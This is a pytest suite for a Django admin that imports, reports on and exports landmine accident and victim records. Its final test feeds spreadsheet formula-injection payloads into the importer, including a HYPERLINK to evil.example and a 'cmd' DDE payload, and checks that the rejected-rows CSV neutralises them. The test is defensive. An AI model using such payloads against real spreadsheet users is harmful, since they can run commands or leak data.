"""The admin: upload, report, import; rejected rows as CSV; export page and export actions."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from accidents.models import Accident
from exchange.imports import record_id
from exchange.models import ImportFile, ImportStatus
from fieldsync.models import Role, User
from fieldsync.services.accounts import account_create_or_update
from tests.helpers.exchange import SAMPLES, csv_bytes
from tests.helpers.sync import PASSWORD
from victims.admin import VictimAdmin
from victims.models import Victim

pytestmark = pytest.mark.django_db
CHANGELIST = "/admin/exchange/importfile/"


@pytest.fixture
def browser(seeded) -> Callable[..., Client]:
    """An NRA staff member in the admin (the NRA staff group holds the import permissions),
    without them if told so, and with the personal-data permission if asked."""

    def make(username: str = "noy", *, imports: bool = True, personal_data: bool = False) -> Client:
        user, _ = account_create_or_update(
            username=username,
            password=PASSWORD,
            role=Role.NRA_STAFF,
            organisation_code="NRA",
            personal_data=personal_data,
        )
        if not imports:  # the group's permissions, less those to import files
            group = user.groups.get()
            user.groups.remove(group)
            user.user_permissions.add(
                *group.permissions.exclude(
                    content_type__app_label="exchange",
                    codename__in=["add_importfile", "change_importfile"],
                )
            )
        client = Client()
        client.force_login(User.objects.get(pk=user.pk))
        return client

    return make


def upload(client: Client, name: str, content: bytes, kind: str = "") -> ImportFile:
    response = client.post(
        f"{CHANGELIST}add/", {"file": SimpleUploadedFile(name, content), "kind": kind}
    )
    import_file = ImportFile.objects.latest("pk")
    assert response.status_code == 302, response.content
    assert response["Location"] == f"{CHANGELIST}{import_file.pk}/change/"
    return import_file


def confirm(client: Client, import_file: ImportFile, run_task: Any) -> Any:
    """Press Import; the background import runs when the request's transaction commits."""
    with run_task(execute=True):
        client.post(f"{CHANGELIST}{import_file.pk}/confirm/")
    return client.get(f"{CHANGELIST}{import_file.pk}/change/")


def test_staff_upload_a_workbook_read_its_report_and_import_it(
    browser, django_capture_on_commit_callbacks
) -> None:
    client = browser()
    form = client.get(f"{CHANGELIST}add/")

    import_file = upload(client, "records.xlsx", (SAMPLES / "records.xlsx").read_bytes())
    report = client.get(f"{CHANGELIST}{import_file.pk}/change/")
    before = Accident.objects.count()
    imported = confirm(client, import_file, django_capture_on_commit_callbacks)

    assert form.status_code == 200
    assert b"accident_legacy_id" in form.content  # the columns are listed
    assert report.status_code == 200
    assert report.context["report"].counts["victim"] == {
        "rows": 6,
        "new": 6,
        "changed": 0,
        "unchanged": 0,
        "rejected": 0,
    }
    assert report.context["can_confirm"] is True
    assert before == 0  # nothing before the confirmation
    assert imported.context["report"].outcomes == {"applied": 14}
    assert b"Imported:" in imported.content
    import_file.refresh_from_db()
    assert (import_file.status, import_file.applied_by.username) == (ImportStatus.APPLIED, "noy")
    assert (Accident.objects.count(), Victim.objects.count()) == (4, 6)
    assert imported.context["can_confirm"] is False
    assert client.get(CHANGELIST).status_code == 200


def test_an_import_asked_for_twice_runs_once(browser, django_capture_on_commit_callbacks) -> None:
    client = browser()
    import_file = upload(client, "accidents.csv", (SAMPLES / "accidents.csv").read_bytes())

    with django_capture_on_commit_callbacks(execute=False) as queued:
        client.post(f"{CHANGELIST}{import_file.pk}/confirm/")
    waiting = client.get(f"{CHANGELIST}{import_file.pk}/change/")
    for task in [*queued, *queued]:  # the task delivered twice
        task()
    again = client.post(f"{CHANGELIST}{import_file.pk}/confirm/", follow=True)

    assert waiting.context["queued"] is True
    assert waiting.context["can_confirm"] is False
    assert Accident.objects.count() == 4
    assert ImportFile.objects.get().status == ImportStatus.APPLIED
    assert [str(m) for m in again.context["messages"]] == [
        "This file is imported or being imported."
    ]


def test_a_file_with_rejected_rows_lists_them_and_cannot_be_imported(
    browser, django_capture_on_commit_callbacks
) -> None:
    client = browser()
    content = csv_bytes(
        "legacy_id,occurred_on,province,district,classification,device_category,activity",
        "A-1,2001-01-01,LA-XI,0901,civilian,landmine,farming",
        "A-2,2001-01-01,LA-XI,Nowhere,civilian,landmine,farming",
        "A-3,2001-01-01,LA-XI,0901,civilian,landmine,juggling",
    )
    import_file = upload(client, "accidents.csv", content)

    report = client.get(f"{CHANGELIST}{import_file.pk}/change/")
    confirmed = confirm(client, import_file, django_capture_on_commit_callbacks)
    rejected = client.get(f"{CHANGELIST}{import_file.pk}/rejected-rows.csv")

    assert report.context["can_confirm"] is False
    assert b"Unknown district code &#x27;Nowhere&#x27;." in report.content
    assert confirmed.context["original"].status == ImportStatus.INVALID  # checked again: refused
    assert Accident.objects.count() == 0
    assert list(csv.reader(io.StringIO(rejected.content.decode()))) == [
        ["sheet", "row", "legacy_id", "column", "messages"],
        ["accidents.csv", "3", "A-2", "district", "Unknown district code 'Nowhere'."],
        ["accidents.csv", "4", "A-3", "activity", '"juggling" is not a valid choice.'],
    ]


def test_staff_without_the_import_permission_cannot_upload_or_import(browser) -> None:
    allowed = browser("noy")
    import_file = upload(allowed, "accidents.csv", (SAMPLES / "accidents.csv").read_bytes())
    client = browser("kham", imports=False)

    responses = [
        client.get(f"{CHANGELIST}add/"),
        client.get(f"{CHANGELIST}{import_file.pk}/change/"),
        client.post(f"{CHANGELIST}{import_file.pk}/confirm/"),
    ]

    # they may read the file's report, but neither upload nor confirm
    assert [r.status_code for r in responses] == [403, 200, 403]
    assert Accident.objects.count() == 0


def test_the_export_page_downloads_filtered_records_without_personal_fields(
    browser, django_capture_on_commit_callbacks
) -> None:
    importer = browser("noy")
    upload(importer, "records.xlsx", (SAMPLES / "records.xlsx").read_bytes())
    confirm(importer, ImportFile.objects.get(), django_capture_on_commit_callbacks)
    client = browser("kham", imports=False)

    page = client.get(f"{CHANGELIST}export/", {"records": "victims"})
    response = client.get(
        f"{CHANGELIST}export/",
        {"records": "victims", "format": "csv", "sex": "female", "download": "Download"},
    )
    bad = client.get(
        f"{CHANGELIST}export/",
        {"records": "victims", "format": "pdf", "download": "Download"},
    )

    assert page.status_code == 200
    assert b'name="occurred_on_after"' in page.content
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(r["id"] for r in rows) == sorted(
        [record_id("victim", "NS-1973-0001-2"), record_id("victim", "NRA-2005-0112-2")]
    )
    assert "full_name" not in rows[0]
    assert bad.status_code == 200  # the form again, with its error
    assert bad.context["form"].errors == {
        "format": ["Select a valid choice. pdf is not one of the available choices."]
    }


def test_a_records_admin_that_names_the_export_actions_exports_the_selected_rows(
    browser, monkeypatch, django_capture_on_commit_callbacks
) -> None:
    # The one-line change a records admin makes: name the actions in its `actions`.
    monkeypatch.setattr(VictimAdmin, "actions", ("export_selected_csv", "export_selected_xlsx"))
    client = browser("noy", personal_data=True)
    upload(client, "records.xlsx", (SAMPLES / "records.xlsx").read_bytes())
    confirm(client, ImportFile.objects.get(), django_capture_on_commit_callbacks)
    chosen = [record_id("victim", "NRA-2019-0031-1"), record_id("victim", "NRA-2005-0112-2")]

    listing = client.get("/admin/victims/victim/")
    response = client.post(
        "/admin/victims/victim/",
        {"action": "export_selected_csv", "_selected_action": chosen},
    )

    assert "export_selected_csv" in dict(listing.context["action_form"].fields["action"].choices)
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(r["id"] for r in rows) == sorted(chosen)
    assert {r["full_name"] for r in rows} == {"Khamphone V.", "Vongdala S."}


def test_the_record_lists_offer_the_export_actions(browser) -> None:
    client = browser()

    listings = [
        client.get(f"/admin/{path}/")
        for path in ("accidents/accident", "victims/victim", "victims/assistance")
    ]

    for listing in listings:
        assert listing.status_code == 200
        choices = dict(listing.context["action_form"].fields["action"].choices)
        assert {"export_selected_csv", "export_selected_xlsx"} <= set(choices)


def test_rejected_rows_csv_writes_formulas_as_text(browser) -> None:
    # given a file whose rejected rows carry legacy ids a spreadsheet would run as formulas
    client = browser()
    content = csv_bytes(
        "legacy_id,occurred_on,province,district,classification,device_category,activity",
        '"=HYPERLINK(""http://evil.example/?"",""open"")",2001-01-01,LA-XI,0901,civilian,'
        "landmine,juggling",
        "@SUM(A1),2001-01-01,LA-XI,0901,civilian,landmine,juggling",
        "\tA-3,2001-01-01,LA-XI,0901,civilian,landmine,juggling",
        "-2+3+cmd|' /C calc'!A0,2001-01-01,LA-XI,0901,civilian,landmine,juggling",
        "-12,2001-01-01,LA-XI,0901,civilian,landmine,juggling",
    )
    import_file = upload(client, "accidents.csv", content)

    # when staff download its rejected rows
    rejected = client.get(f"{CHANGELIST}{import_file.pk}/rejected-rows.csv")

    # then every such cell is written behind an apostrophe (a plain number stays as it is)
    rows = list(csv.reader(io.StringIO(rejected.content.decode())))
    assert [row[2] for row in rows] == [
        "legacy_id",
        '\'=HYPERLINK("http://evil.example/?","open")',
        "'@SUM(A1)",
        "A-3",  # cells are read stripped: the tab is gone
        "'-2+3+cmd|' /C calc'!A0",
        "-12",
    ]
